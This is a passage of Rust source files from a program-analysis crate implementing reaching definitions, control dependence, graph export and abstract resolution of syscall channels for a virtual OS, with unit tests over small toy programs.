                                site: *site,
                                effects,
                                args: arg_vals,
                            },
                        );
                        match sys {
                            Syscall::Exit
                            | Syscall::Setjmp
                            | Syscall::Longjmp
                            | Syscall::Lock
                            | Syscall::Unlock => {
                                self.edge(here, end);
                            }
                            Syscall::Spawn => {
                                self.edge(here, end);
                                for &h in address_taken {
                                    let ctl = self.node(Node::CallCtl(h));
                                    self.edge(here, ctl);
                                }
                            }
                            Syscall::Join => {
                                self.edge(here, end);
                                for &h in address_taken {
                                    let ret = self.node(Node::Ret(h));
                                    self.edge(ret, here);
                                }
                            }
                            _ => {}
                        }
                    }
                    _ => {}
                }
            }
            let term = self.node(Node::Term {
                func: fid,
                block: b,
            });
            match &func.block(b).term {
                Terminator::Return(_) => {
                    let ret = self.node(Node::Ret(fid));
                    self.edge(term, ret);
                }
                Terminator::Branch { .. } => {
                    // A perturbed branch inside a loop changes the step
                    // count, which can cross the interpreter step limit.
                    if in_loop[b.index()] {
                        self.edge(term, end);
                    }
                }
                Terminator::Jump { .. } => {}
            }
        }
    }

    /// Channel edges: writer site → reader site for each may-aliasing
    /// channel pair.
    fn channel_edges(&mut self) {
        let entries: Vec<(NodeId, SiteEffects)> = self
            .sites
            .values()
            .map(|s| (s.node, s.effects.clone()))
            .collect();
        for (wn, we) in &entries {
            if we.writes.is_empty() {
                continue;
            }
            for (rn, re) in &entries {
                if wn == rn {
                    continue;
                }
                let hit = we
                    .writes
                    .iter()
                    .any(|w| re.reads.iter().any(|r| may_alias(w, r)));
                if hit {
                    self.edge(*wn, *rn);
                }
            }
        }
    }
}
