//! Flow-sensitive intraprocedural reaching definitions and def-use chains.
//!
//! The classic bit-vector dataflow: every definition point of a local
//! (parameter entry or instruction) gets a dense [`DefId`]; per-block
//! gen/kill sets are iterated to a fixpoint over the CFG; the in-sets are
//! then replayed through each block to answer "which definitions of local
//! `l` reach this use?". Element stores (`StoreIndexLocal`) are *weak*
//! definitions — they generate but do not kill, because the untouched
//! elements of the array survive the store.

use ldx_ir::{BlockId, FuncBody, LocalId};
use std::collections::BTreeMap;

/// A dense definition-point id within one function.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct DefId(pub u32);

/// Where a definition happens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DefSite {
    /// The local is a parameter, defined at function entry.
    Param(LocalId),
    /// Defined by `func.blocks[block].instrs[idx]`.
    Instr(BlockId, usize),
}

/// One definition point.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Def {
    /// Where.
    pub site: DefSite,
    /// Which local it defines.
    pub local: LocalId,
    /// Whether it overwrites the whole slot (kills prior defs).
    pub strong: bool,
}

/// A use position inside a function: instruction index, or the block
/// terminator (`idx == usize::MAX`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct UsePos {
    /// The block.
    pub block: BlockId,
    /// Instruction index, or [`TERM_IDX`] for the terminator.
    pub idx: usize,
}

/// The pseudo instruction index of a block terminator in a [`UsePos`].
pub const TERM_IDX: usize = usize::MAX;

/// Reaching definitions for one function.
#[derive(Debug, Clone)]
pub struct ReachingDefs {
    /// All definition points, indexed by [`DefId`].
    pub defs: Vec<Def>,
    /// For every (use position, local) pair actually used by the function:
    /// the definitions that reach it.
    use_defs: BTreeMap<(UsePos, LocalId), Vec<DefId>>,
}

/// A fixed-width bitset over definition ids.
#[derive(Clone, PartialEq, Eq)]
struct BitSet(Vec<u64>);

impl BitSet {
    fn new(n: usize) -> Self {
        BitSet(vec![0; n.div_ceil(64)])
    }
    fn set(&mut self, i: u32) {
        self.0[i as usize / 64] |= 1 << (i % 64);
    }
    fn clear(&mut self, i: u32) {
        self.0[i as usize / 64] &= !(1 << (i % 64));
    }
    fn get(&self, i: u32) -> bool {
        self.0[i as usize / 64] & (1 << (i % 64)) != 0
    }
    /// `self |= other`; reports whether anything changed.
    fn union(&mut self, other: &BitSet) -> bool {
        let mut changed = false;
        for (a, b) in self.0.iter_mut().zip(&other.0) {
            let next = *a | b;
            changed |= next != *a;
            *a = next;
        }
        changed
    }
}

impl ReachingDefs {
    /// Computes reaching definitions and def-use chains for `func`.
    pub fn compute(func: &FuncBody) -> Self {
        // 1. Enumerate definition points.
        let mut defs: Vec<Def> = (0..func.param_count)
            .map(|p| Def {
                site: DefSite::Param(LocalId(p as u32)),
                local: LocalId(p as u32),
                strong: true,
            })
            .collect();
        for b in func.block_ids() {
            for (idx, instr) in func.block(b).instrs.iter().enumerate() {
                if let Some((local, strong)) = instr.defined_local() {
                    defs.push(Def {
                        site: DefSite::Instr(b, idx),
                        local,
                        strong,
                    });
                }
            }
        }
        let n_defs = defs.len();
        let mut defs_of_local: Vec<Vec<u32>> = vec![Vec::new(); func.local_count];
        let mut def_at: BTreeMap<(BlockId, usize), u32> = BTreeMap::new();
        for (i, d) in defs.iter().enumerate() {
            defs_of_local[d.local.index()].push(i as u32);
            if let DefSite::Instr(b, idx) = d.site {
                def_at.insert((b, idx), i as u32);
            }
        }

        // 2. Per-block transfer: replay the block over a def set.
        let n = func.blocks.len();
        let transfer = |state: &mut BitSet, b: BlockId| {
            for (idx, instr) in func.block(b).instrs.iter().enumerate() {
                if let Some((local, strong)) = instr.defined_local() {
                    let id = def_at[&(b, idx)];
                    if strong {
                        for &other in &defs_of_local[local.index()] {
                            state.clear(other);
                        }
                    }
                    state.set(id);
                }
            }
        };

        // 3. Fixpoint over the CFG (forward, may).
        let mut in_sets: Vec<BitSet> = vec![BitSet::new(n_defs); n];
        let entry_in = {
            let mut s = BitSet::new(n_defs);
            for p in 0..func.param_count {
                s.set(p as u32);
            }
            s
        };
        in_sets[func.entry.index()] = entry_in;
        let mut worklist: Vec<BlockId> = func.block_ids().collect();
        while let Some(b) = worklist.pop() {
            let mut out = in_sets[b.index()].clone();
            transfer(&mut out, b);
            for s in func.block(b).term.successors() {
                if in_sets[s.index()].union(&out) && !worklist.contains(&s) {
                    worklist.push(s);
                }
            }
        }

        // 4. Replay each block once more, recording the reaching defs at
        //    every use.
        let mut use_defs: BTreeMap<(UsePos, LocalId), Vec<DefId>> = BTreeMap::new();
        for b in func.block_ids() {
            let mut state = in_sets[b.index()].clone();
            let mut record = |state: &BitSet, pos: UsePos, local: LocalId| {
                let reaching: Vec<DefId> = defs_of_local
                    .get(local.index())
                    .map(|ids| {
                        ids.iter()
                            .filter(|&&i| state.get(i))
                            .map(|&i| DefId(i))
                            .collect()
                    })
                    .unwrap_or_default();
                use_defs.insert((pos, local), reaching);
            };
            for (idx, instr) in func.block(b).instrs.iter().enumerate() {
                for local in instr.used_locals() {
                    record(&state, UsePos { block: b, idx }, local);
                }
                if let Some((local, strong)) = instr.defined_local() {
                    let id = def_at[&(b, idx)];
                    if strong {
                        for &other in &defs_of_local[local.index()] {
                            state.clear(other);
                        }
                    }
                    state.set(id);
                }
            }
            if let Some(local) = func.block(b).term.used_local() {
                record(
                    &state,
                    UsePos {
                        block: b,
                        idx: TERM_IDX,
                    },
                    local,
                );
            }
        }

        ReachingDefs { defs, use_defs }
    }

    /// The definitions of `local` reaching the given use position.
    pub fn reaching(&self, pos: UsePos, local: LocalId) -> &[DefId] {
        self.use_defs
            .get(&(pos, local))
            .map(Vec::as_slice)
            .unwrap_or(&[])
    }

    /// The definition record for `id`.
    pub fn def(&self, id: DefId) -> &Def {
        &self.defs[id.0 as usize]
    }

    /// Iterates over every recorded `(use position, local, reaching defs)`.
    pub fn iter_uses(&self) -> impl Iterator<Item = (UsePos, LocalId, &[DefId])> {
        self.use_defs
            .iter()
            .map(|((pos, local), defs)| (*pos, *local, defs.as_slice()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn rd(src: &str, name: &str) -> (FuncBody, ReachingDefs) {
        let p = lower(&compile(src).unwrap());
        let f = p.func(p.func_id(name).unwrap()).clone();
        let r = ReachingDefs::compute(&f);
        (f, r)
    }

    #[test]
    fn params_reach_first_use() {
        let (f, r) = rd("fn f(a) { return a; } fn main() { f(1); }", "f");
        let pos = f
            .block_ids()
            .find_map(|b| {
                f.block(b).term.used_local().map(|_| UsePos {
                    block: b,
                    idx: TERM_IDX,
                })
            })
            .expect("return with value");
        let defs = r.reaching(pos, LocalId(0));
        assert_eq!(defs.len(), 1);
        assert!(matches!(r.def(defs[0]).site, DefSite::Param(_)));
    }

    #[test]
    fn branch_join_merges_both_definitions() {
        let (f, r) = rd(
            "fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } let y = x; }",
            "main",
        );
        // Find the use of x feeding `y = x` (a Copy after the join): the
        // copy's source must see exactly the two arm definitions.
        let mut best: Option<usize> = None;
        for (pos, _local, defs) in r.iter_uses() {
            if pos.idx != TERM_IDX
                && matches!(
                    f.block(pos.block).instrs[pos.idx],
                    ldx_ir::Instr::Copy { .. }
                )
            {
                best = Some(defs.len().max(best.unwrap_or(0)));
            }
        }
        assert_eq!(best, Some(2), "join must merge the two arm defs");
    }

    #[test]
    fn weak_array_store_does_not_kill() {
        let (f, r) = rd("fn main() { let a = [1, 2]; a[0] = 9; let b = a; }", "main");
        // The use of `a` after the element store must see both the
        // MakeArray def and the weak StoreIndexLocal def.
        let mut seen = Vec::new();
        for (pos, _local, defs) in r.iter_uses() {
            if pos.idx != TERM_IDX
                && matches!(
                    f.block(pos.block).instrs[pos.idx],
                    ldx_ir::Instr::Copy { .. }
                )
            {
                seen.push(defs.len());
            }
        }
        assert!(seen.contains(&2), "weak store must not kill: {seen:?}");
    }

    #[test]
    fn loop_carried_definitions_reach_header_uses() {
        let (f, r) = rd(
            "fn main() { let i = 0; while (i < 3) { i = i + 1; } }",
            "main",
        );
        // The loop condition use of i sees both the init and the increment.
        let mut cond_defs = 0;
        for (pos, _local, defs) in r.iter_uses() {
            if pos.idx != TERM_IDX {
                continue;
            }
            if matches!(f.block(pos.block).term, ldx_ir::Terminator::Branch { .. }) {
                cond_defs = cond_defs.max(defs.len());
            }
        }
        // The branch condition is a temporary (i < 3), so look at the
        // comparison's operand uses instead.
        let mut i_defs = 0;
        for (pos, _local, defs) in r.iter_uses() {
            if pos.idx == TERM_IDX {
                continue;
            }
            if matches!(
                f.block(pos.block).instrs[pos.idx],
                ldx_ir::Instr::Binary { .. }
            ) {
                i_defs = i_defs.max(defs.len());
            }
        }
        assert!(i_defs >= 2, "loop-carried def must reach the condition");
        let _ = cond_defs;
    }
}
