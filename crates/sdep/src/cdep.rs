//! Control dependence, derived from the existing post-dominator tree.
//!
//! Ferrante–Ottenstein–Warren: block `B` is control-dependent on block `A`
//! when `A` has a CFG edge to some `S` such that `B` post-dominates `S`
//! but `B` does not strictly post-dominate `A`. Operationally: for every
//! CFG edge `(A, S)` where `S` is not `ipdom(A)`, walk `S` up the
//! post-dominator tree until reaching `ipdom(A)`; every block visited on
//! the way is control-dependent on `A`.

use ldx_ir::dom::PostDominators;
use ldx_ir::{BlockId, FuncBody};

/// Control-dependence relation for one function.
#[derive(Debug, Clone)]
pub struct ControlDeps {
    /// `deps[b]` = blocks whose terminator decides whether `b` executes.
    deps: Vec<Vec<BlockId>>,
}

impl ControlDeps {
    /// Computes control dependence for `func` from its post-dominator tree.
    pub fn compute(func: &FuncBody) -> Self {
        let pdom = PostDominators::compute(func);
        let n = func.blocks.len();
        let mut deps: Vec<Vec<BlockId>> = vec![Vec::new(); n];
        for a in func.block_ids() {
            let stop = pdom.ipdom(a);
            for s in func.block(a).term.successors() {
                // Walk s up the post-dominator tree to ipdom(a). A `None`
                // ipdom means the virtual exit, which also terminates the
                // walk (when stop is itself None, everything up to the
                // virtual exit is control-dependent on `a`).
                let mut cur = Some(s);
                let mut fuel = n + 1;
                while let Some(b) = cur {
                    if Some(b) == stop {
                        break;
                    }
                    if !deps[b.index()].contains(&a) {
                        deps[b.index()].push(a);
                    }
                    cur = pdom.ipdom(b);
                    fuel -= 1;
                    if fuel == 0 {
                        break; // defensive: pdom trees are acyclic, but don't hang on a bug
                    }
                }
            }
        }
        for d in &mut deps {
            d.sort_unstable();
        }
        ControlDeps { deps }
    }

    /// The blocks whose branch decides whether `b` executes.
    pub fn controllers(&self, b: BlockId) -> &[BlockId] {
        &self.deps[b.index()]
    }

    /// Iterates `(dependent block, controlling blocks)` pairs with at
    /// least one controller.
    pub fn iter(&self) -> impl Iterator<Item = (BlockId, &[BlockId])> {
        self.deps
            .iter()
            .enumerate()
            .filter(|(_, d)| !d.is_empty())
            .map(|(i, d)| (BlockId(i as u32), d.as_slice()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_ir::{lower, Terminator};
    use ldx_lang::compile;

    fn cd(src: &str) -> (FuncBody, ControlDeps) {
        let p = lower(&compile(src).unwrap());
        let f = p.func(p.main()).clone();
        let c = ControlDeps::compute(&f);
        (f, c)
    }

    #[test]
    fn straight_line_has_no_control_deps() {
        let (f, c) = cd("fn main() { let x = 1; let y = x + 1; }");
        for b in f.block_ids() {
            assert!(c.controllers(b).is_empty(), "{b} unexpectedly controlled");
        }
    }

    #[test]
    fn if_arms_depend_on_the_branch() {
        let (f, c) =
            cd("fn main() { let x = 1; if (x) { let a = 2; } else { let b = 3; } let z = 4; }");
        let branch_block = f
            .block_ids()
            .find(|&b| matches!(f.block(b).term, Terminator::Branch { .. }))
            .expect("branch");
        let controlled: Vec<BlockId> = f
            .block_ids()
            .filter(|&b| c.controllers(b).contains(&branch_block))
            .collect();
        assert_eq!(controlled.len(), 2, "exactly the two arms: {controlled:?}");
        // The join block is not control-dependent on the branch.
        for b in &controlled {
            assert_ne!(
                f.block(*b).term.successors().len(),
                0,
                "arm blocks jump to the join"
            );
        }
    }

    #[test]
    fn loop_body_and_header_depend_on_loop_branch() {
        let (f, c) = cd("fn main() { let i = 0; while (i < 3) { i = i + 1; } }");
        let branch_block = f
            .block_ids()
            .find(|&b| matches!(f.block(b).term, Terminator::Branch { .. }))
            .expect("loop branch");
        // The branch controls the body, and (being a loop) itself.
        assert!(
            c.controllers(branch_block).contains(&branch_block),
            "loop header is control-dependent on its own branch"
        );
        let controlled = f
            .block_ids()
            .filter(|&b| c.controllers(b).contains(&branch_block))
            .count();
        assert!(
            controlled >= 2,
            "branch controls body + header: {controlled}"
        );
    }
}
