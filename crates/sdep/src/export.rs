//! JSON and DOT export of the analysis results (`ldx analyze`).
//!
//! The JSON shape is validated in CI against `schemas/sdep_schema.json`
//! (by `scripts/check_sdep_output.py`); keep the two in sync. Like the
//! bench and obs emitters, the writer is hand-rolled — the analysis crate
//! stays serializer-free.

use crate::graph::Node;
use crate::reach::StaticAnalysis;
use ldx_ir::IrProgram;
use std::fmt::Write as _;

/// Escapes and quotes a string as a JSON literal.
fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Renders the full analysis as a JSON document.
///
/// Shape: `{ "program": ..., "nodes": N, "edges": N, "sites": [...],
/// "reachability": [...] }` — see `schemas/sdep_schema.json`.
pub fn analysis_to_json(program: &IrProgram, analysis: &StaticAnalysis, name: &str) -> String {
    let pdg = analysis.pdg();
    let mut out = String::new();
    out.push_str("{\n");
    let _ = writeln!(out, "  \"program\": {},", json_str(name));
    let _ = writeln!(out, "  \"functions\": {},", program.iter_funcs().count());
    let _ = writeln!(out, "  \"nodes\": {},", pdg.nodes().len());
    let _ = writeln!(out, "  \"edges\": {},", pdg.edge_count());
    out.push_str("  \"sites\": [\n");
    let mut first = true;
    for info in analysis.sites().values() {
        if !first {
            out.push_str(",\n");
        }
        first = false;
        let func_name = program.func(info.func).name.clone();
        let reads: Vec<String> = info
            .effects
            .reads
            .iter()
            .map(|c| json_str(&c.to_string()))
            .collect();
        let writes: Vec<String> = info
            .effects
            .writes
            .iter()
            .map(|c| json_str(&c.to_string()))
            .collect();
        let _ = write!(
            out,
            "    {{\"func\": {}, \"site\": {}, \"sys\": {}, \"reads\": [{}], \"writes\": [{}]}}",
            json_str(&func_name),
            info.site.index(),
            json_str(&info.sys.to_string()),
            reads.join(", "),
            writes.join(", ")
        );
    }
    out.push_str("\n  ],\n");
    out.push_str("  \"reachability\": [\n");
    let mut first = true;
    for (&(func, site), reach) in analysis.reach() {
        if !first {
            out.push_str(",\n");
        }
        first = false;
        let func_name = program.func(func).name.clone();
        let sinks: Vec<String> = reach
            .sinks
            .iter()
            .map(|&(f, s)| {
                format!(
                    "{{\"func\": {}, \"site\": {}}}",
                    json_str(&program.func(f).name),
                    s.index()
                )
            })
            .collect();
        let _ = write!(
            out,
            "    {{\"func\": {}, \"site\": {}, \"affects_end\": {}, \"touches_anything\": {}, \"sinks\": [{}]}}",
            json_str(&func_name),
            site.index(),
            reach.affects_end,
            reach.touches_anything,
            sinks.join(", ")
        );
    }
    out.push_str("\n  ]\n}\n");
    out
}

/// Renders the dependence graph as a Graphviz digraph.
///
/// Instruction/terminator nodes are grouped into per-function clusters;
/// syscall sites are highlighted boxes labeled with their syscall and
/// channels.
pub fn pdg_to_dot(program: &IrProgram, analysis: &StaticAnalysis) -> String {
    let pdg = analysis.pdg();
    let node_name = |id: u32| format!("n{id}");
    let mut out = String::from("digraph pdg {\n  rankdir=LR;\n  node [fontsize=9];\n");

    for (fid, func) in program.iter_funcs() {
        let _ = writeln!(out, "  subgraph cluster_{} {{", fid.index());
        let _ = writeln!(out, "    label={};", json_str(&func.name));
        for (i, node) in pdg.nodes().iter().enumerate() {
            let (nf, label, shape) = match node {
                Node::Ins { func, block, idx } => {
                    let instr = &program.func(*func).block(*block).instrs[*idx];
                    let label = if let Some(sys) = instr.as_syscall() {
                        format!("{block}.{idx} {sys}")
                    } else {
                        format!("{block}.{idx}")
                    };
                    let shape = if instr.as_syscall().is_some() {
                        "box"
                    } else {
                        "ellipse"
                    };
                    (*func, label, shape)
                }
                Node::Term { func, block } => (*func, format!("{block}.term"), "diamond"),
                _ => continue,
            };
            if nf != fid {
                continue;
            }
            let _ = writeln!(
                out,
                "    {} [label={}, shape={}];",
                node_name(i as u32),
                json_str(&label),
                shape
            );
        }
        out.push_str("  }\n");
    }
    // Summary nodes outside the clusters.
    for (i, node) in pdg.nodes().iter().enumerate() {
        let label = match node {
            Node::CallCtl(f) => format!("callctl {}", program.func(*f).name),
            Node::Ret(f) => format!("ret {}", program.func(*f).name),
            Node::Global(g) => format!("global {g}"),
            Node::End => "end".to_string(),
            _ => continue,
        };
        let _ = writeln!(
            out,
            "  {} [label={}, shape=octagon];",
            node_name(i as u32),
            json_str(&label)
        );
    }
    for (i, _) in pdg.nodes().iter().enumerate() {
        for &s in pdg.succs(i as u32) {
            let _ = writeln!(out, "  {} -> {};", node_name(i as u32), node_name(s));
        }
    }
    out.push_str("}\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_ir::lower;
    use ldx_lang::compile;

    fn setup() -> (IrProgram, StaticAnalysis) {
        let program = lower(
            &compile(
                r#"fn main() {
                    let fd = open("/in", 0);
                    let x = read(fd, 16);
                    write(1, x);
                }"#,
            )
            .unwrap(),
        );
        let analysis = StaticAnalysis::analyze(&program);
        (program, analysis)
    }

    #[test]
    fn json_has_expected_top_level_keys() {
        let (program, analysis) = setup();
        let json = analysis_to_json(&program, &analysis, "demo");
        for key in [
            "\"program\"",
            "\"functions\"",
            "\"nodes\"",
            "\"edges\"",
            "\"sites\"",
            "\"reachability\"",
        ] {
            assert!(json.contains(key), "missing {key} in {json}");
        }
        assert!(json.contains("\"program\": \"demo\""));
        assert!(json.contains("file:/in"));
    }

    #[test]
    fn dot_is_a_digraph_with_clusters_and_edges() {
        let (program, analysis) = setup();
        let dot = pdg_to_dot(&program, &analysis);
        assert!(dot.starts_with("digraph pdg {"));
        assert!(dot.ends_with("}\n"));
        assert!(dot.contains("subgraph cluster_0"));
        assert!(dot.contains(" -> "));
        assert!(dot.contains("shape=box"), "syscall sites are boxes");
    }
}
