//! Abstract resolution of syscall arguments and vOS resource channels.
//!
//! Dual execution compares runs through the virtual OS, so data also flows
//! *around* the program: a tainted write to `/data/x` taints a later read
//! of `/data/x`, a tainted `send` taints the peer's next `recv`, a tainted
//! `read` length shifts the file position seen by the next read on the
//! same file. We model each shared vOS resource as a [`Chan`] and give
//! every syscall site a set of channels it may read and may write.
//!
//! Channel membership needs the *values* of fd/path arguments, so we run a
//! small intraprocedural abstract interpretation over the reaching-def
//! chains: constants fold, copies forward, `open`/`connect`/`accept`
//! results become typed descriptors carrying their possible paths / hosts /
//! ports. Anything else (call results, arithmetic, parameters, globals) is
//! `Unknown` and widens to the `FsAny`/`NetAny` hubs. Aliasing between a
//! writer's and a reader's channel sets is decided pairwise — hub channels
//! alias every concrete channel of their kind, but concrete channels never
//! alias each other through a hub, which keeps write-only and read-only
//! files statically independent.

use crate::reachdef::{DefSite, ReachingDefs, UsePos};
use ldx_ir::{FuncBody, Instr, LocalId};
use ldx_lang::Syscall;
use std::collections::{BTreeSet, HashMap, HashSet};
use std::fmt;

/// A shared vOS resource through which data can flow between syscall
/// sites.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Chan {
    /// A file with a statically known path (includes `/dev/stdout` and
    /// `/dev/stderr` for stdio writes).
    File(String),
    /// A network peer with a statically known host name.
    Peer(String),
    /// A scripted client queue on a statically known port.
    Client(i64),
    /// Some file — path not statically known.
    FsAny,
    /// Some network resource — peer or client not statically known.
    NetAny,
    /// The virtual clock (`time` advances it).
    Clock,
    /// The deterministic RNG state (`random` advances it).
    Rng,
}

impl Chan {
    /// A file channel with vOS path normalization applied, so
    /// `/out/../data/x` and `/data/x` land on the same channel.
    pub fn file(path: &str) -> Chan {
        let segs = ldx_vos::normalize_path(path);
        Chan::File(format!("/{}", segs.join("/")))
    }
}

impl fmt::Display for Chan {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Chan::File(p) => write!(f, "file:{p}"),
            Chan::Peer(h) => write!(f, "peer:{h}"),
            Chan::Client(p) => write!(f, "client:{p}"),
            Chan::FsAny => write!(f, "fs:*"),
            Chan::NetAny => write!(f, "net:*"),
            Chan::Clock => write!(f, "clock"),
            Chan::Rng => write!(f, "rng"),
        }
    }
}

/// May a write to `a` be observed by a read of `b`?
pub fn may_alias(a: &Chan, b: &Chan) -> bool {
    use Chan::*;
    match (a, b) {
        (File(p), File(q)) => p == q,
        (File(_), FsAny) | (FsAny, File(_)) | (FsAny, FsAny) => true,
        (Peer(h), Peer(k)) => h == k,
        (Client(p), Client(q)) => p == q,
        (Peer(_) | Client(_), NetAny) | (NetAny, Peer(_) | Client(_)) | (NetAny, NetAny) => true,
        (Clock, Clock) | (Rng, Rng) => true,
        _ => false,
    }
}

/// The abstract value set a local may hold at a use position.
#[derive(Debug, Clone, Default)]
pub struct ValSet {
    /// Possible integer constants.
    pub ints: BTreeSet<i64>,
    /// Possible string constants.
    pub strs: BTreeSet<String>,
    /// Possible file descriptors from `open(path, _)` with known paths.
    pub file_fds: BTreeSet<String>,
    /// Possible descriptors from `connect(host)` with known hosts.
    pub peer_fds: BTreeSet<String>,
    /// Possible descriptors from `accept(port)` with known ports.
    pub client_fds: BTreeSet<i64>,
    /// Some reaching `open` had a non-constant path.
    pub fd_unknown_file: bool,
    /// Some reaching `connect`/`accept` had a non-constant argument.
    pub fd_unknown_net: bool,
    /// Some reaching value is completely unconstrained (parameter, call
    /// result, arithmetic, global, ...).
    pub unknown: bool,
}

impl ValSet {
    fn merge(&mut self, other: ValSet) {
        self.ints.extend(other.ints);
        self.strs.extend(other.strs);
        self.file_fds.extend(other.file_fds);
        self.peer_fds.extend(other.peer_fds);
        self.client_fds.extend(other.client_fds);
        self.fd_unknown_file |= other.fd_unknown_file;
        self.fd_unknown_net |= other.fd_unknown_net;
        self.unknown |= other.unknown;
    }

    fn unknown() -> ValSet {
        ValSet {
            unknown: true,
            ..ValSet::default()
        }
    }

    /// The channels behind this value when used as a file descriptor.
    pub fn fd_chans(&self) -> BTreeSet<Chan> {
        let mut out: BTreeSet<Chan> = BTreeSet::new();
        out.extend(self.file_fds.iter().map(|p| Chan::file(p)));
        out.extend(self.peer_fds.iter().cloned().map(Chan::Peer));
        out.extend(self.client_fds.iter().copied().map(Chan::Client));
        if self.fd_unknown_file {
            out.insert(Chan::FsAny);
        }
        if self.fd_unknown_net {
            out.insert(Chan::NetAny);
        }
        for &i in &self.ints {
            // Integer literals 0..=2 are stdio; >= 3 may coincide with an
            // fd allocated by some open/connect/accept elsewhere.
            if i >= 3 {
                out.insert(Chan::FsAny);
                out.insert(Chan::NetAny);
            }
        }
        if self.unknown {
            out.insert(Chan::FsAny);
            out.insert(Chan::NetAny);
        }
        out
    }

    /// The channels behind this value when used as a path argument.
    pub fn path_chans(&self) -> BTreeSet<Chan> {
        let mut out: BTreeSet<Chan> = self.strs.iter().map(|p| Chan::file(p)).collect();
        if self.unknown || !self.ints.is_empty() || self.fd_unknown_file {
            out.insert(Chan::FsAny);
        }
        out
    }

    /// True when this value is exactly one known integer.
    pub fn only_int(&self) -> Option<i64> {
        if self.unknown
            || self.fd_unknown_file
            || self.fd_unknown_net
            || !self.strs.is_empty()
            || !self.file_fds.is_empty()
            || !self.peer_fds.is_empty()
            || !self.client_fds.is_empty()
            || self.ints.len() != 1
        {
            return None;
        }
        self.ints.iter().next().copied()
    }

    /// True when the value may be a stdio descriptor (constant 0..=2, or
    /// unconstrained).
    pub fn may_be_stdio(&self) -> bool {
        self.unknown || self.ints.iter().any(|&i| (0..=2).contains(&i))
    }
}

/// Memoizing abstract-value resolver for one function.
pub struct Resolver<'f> {
    func: &'f FuncBody,
    rd: &'f ReachingDefs,
    memo: HashMap<(UsePos, LocalId), ValSet>,
}

impl<'f> Resolver<'f> {
    /// Creates a resolver over `func` with its reaching definitions.
    pub fn new(func: &'f FuncBody, rd: &'f ReachingDefs) -> Self {
        Resolver {
            func,
            rd,
            memo: HashMap::new(),
        }
    }

    /// Resolves the possible values of `local` at `pos`.
    pub fn resolve(&mut self, pos: UsePos, local: LocalId) -> ValSet {
        let mut visiting = HashSet::new();
        self.resolve_inner(pos, local, &mut visiting)
    }

    fn resolve_inner(
        &mut self,
        pos: UsePos,
        local: LocalId,
        visiting: &mut HashSet<(UsePos, LocalId)>,
    ) -> ValSet {
        if let Some(v) = self.memo.get(&(pos, local)) {
            return v.clone();
        }
        if !visiting.insert((pos, local)) {
            // A copy cycle: the in-progress query contributes nothing new
            // to its own least fixpoint.
            return ValSet::default();
        }
        let mut out = ValSet::default();
        for &d in self.rd.reaching(pos, local) {
            let def = *self.rd.def(d);
            let v = match def.site {
                DefSite::Param(_) => ValSet::unknown(),
                DefSite::Instr(b, idx) => {
                    let at = UsePos { block: b, idx };
                    match &self.func.block(b).instrs[idx] {
                        Instr::Const { value, .. } => match value {
                            ldx_ir::Const::Int(i) => ValSet {
                                ints: BTreeSet::from([*i]),
                                ..ValSet::default()
                            },
                            ldx_ir::Const::Str(s) => ValSet {
                                strs: BTreeSet::from([s.clone()]),
                                ..ValSet::default()
                            },
                            ldx_ir::Const::Array(_) => ValSet::unknown(),
                        },
                        Instr::Copy { src, .. } => self.resolve_inner(at, *src, visiting),
                        Instr::Syscall { sys, args, .. } => match sys {
                            Syscall::Open => {
                                let path = args
                                    .first()
                                    .map(|&a| self.resolve_inner(at, a, visiting))
                                    .unwrap_or_else(ValSet::unknown);
                                ValSet {
                                    file_fds: path.strs.clone(),
                                    fd_unknown_file: path.unknown
                                        || path.fd_unknown_file
                                        || !path.ints.is_empty(),
                                    ..ValSet::default()
                                }
                            }
                            Syscall::Connect => {
                                let host = args
                                    .first()
                                    .map(|&a| self.resolve_inner(at, a, visiting))
                                    .unwrap_or_else(ValSet::unknown);
                                ValSet {
                                    peer_fds: host.strs.clone(),
                                    fd_unknown_net: host.unknown || host.strs.is_empty(),
                                    ..ValSet::default()
                                }
                            }
                            Syscall::Accept => {
                                let port = args
                                    .first()
                                    .map(|&a| self.resolve_inner(at, a, visiting))
                                    .unwrap_or_else(ValSet::unknown);
                                ValSet {
                                    client_fds: port.ints.clone(),
                                    fd_unknown_net: port.unknown || port.ints.is_empty(),
                                    ..ValSet::default()
                                }
                            }
                            _ => ValSet::unknown(),
                        },
                        _ => ValSet::unknown(),
                    }
                }
            };
            out.merge(v);
        }
        visiting.remove(&(pos, local));
        self.memo.insert((pos, local), out.clone());
        out
    }
}

/// The channels a syscall site may read from and write to.
#[derive(Debug, Clone, Default)]
pub struct SiteEffects {
    /// Channels whose state may influence this site's result.
    pub reads: BTreeSet<Chan>,
    /// Channels whose state this site may change.
    pub writes: BTreeSet<Chan>,
}

/// Classifies the channel effects of one syscall site.
///
/// `args` are the abstract values of the call's operands in order.
pub fn site_effects(sys: Syscall, args: &[ValSet]) -> SiteEffects {
    let mut eff = SiteEffects::default();
    let fd_chans = |i: usize| args.get(i).map(ValSet::fd_chans).unwrap_or_default();
    let path_chans = |i: usize| args.get(i).map(ValSet::path_chans).unwrap_or_default();
    match sys {
        Syscall::Open => {
            // Result depends on file existence; a writable mode creates or
            // truncates the file.
            let chans = path_chans(0);
            eff.reads.extend(chans.iter().cloned());
            let mode = args.get(1).and_then(ValSet::only_int);
            if mode != Some(0) {
                eff.writes.extend(chans);
            }
        }
        Syscall::Read | Syscall::Recv => {
            // Reads both observe the resource and advance its cursor /
